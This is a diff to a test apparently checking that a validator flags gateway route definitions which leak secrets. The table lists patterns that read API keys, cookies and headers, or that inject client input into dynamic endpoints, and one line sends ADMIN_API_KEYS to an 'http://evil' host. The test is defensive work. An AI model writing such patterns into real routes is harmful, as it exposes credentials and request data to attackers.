@@ -44,6 +44,14 @@ class SecretsInRoutesTest {
             setBody: {constant: '{{gateway.management.jolokia-viewer-password:x}}'} | constant reads gateway.management.jolokia-viewer-password
             setBody: {constant: '{{gateway.accounts.cookies}}'}     | constant reads gateway.accounts.cookies
             setBody: {constant: '{{gateway.providers.headers}}'}    | constant reads gateway.providers.headers
+            setBody: {simple: '${env.admin-api-keys}'}              | simple reads admin-api-keys
+            setBody: {simple: '${sysenv.anthropic.api.keys}'}       | simple reads anthropic.api.keys
+            setBody: {simple: '${properties:api_keys}'}             | simple reads api_keys
+            setBody: {simple: '${exchangeProperty[requestContext].request.headers}'} | simple reads headers or bodies of a request
+            setBody: {simple: '${exchangeProperty.requestContext.getRequest.headers}'} | simple reads headers or bodies of a request
+            toD: 'reject:403?message=${exchangeProperty.requestContext.model}' | toD fills in what a client sends
+            toD: {uri: 'reject:403?message=${body}'}                | toD fills in what a client sends
+            wireTap: {uri: 'reject:403?message=${body}'}            | wireTap fills in what a client sends
             to: {uri: 'reject:403', parameters: {message: '${env.ADMIN_API_KEYS}'}} | message reads ADMIN_API_KEYS
             to: 'reject:403?message=${env.ADMIN_API_KEYS}'          | to reads ADMIN_API_KEYS
             to: 'http://evil/{{env:ADMIN_API_KEYS}}'                | to reads ADMIN_API_KEYS
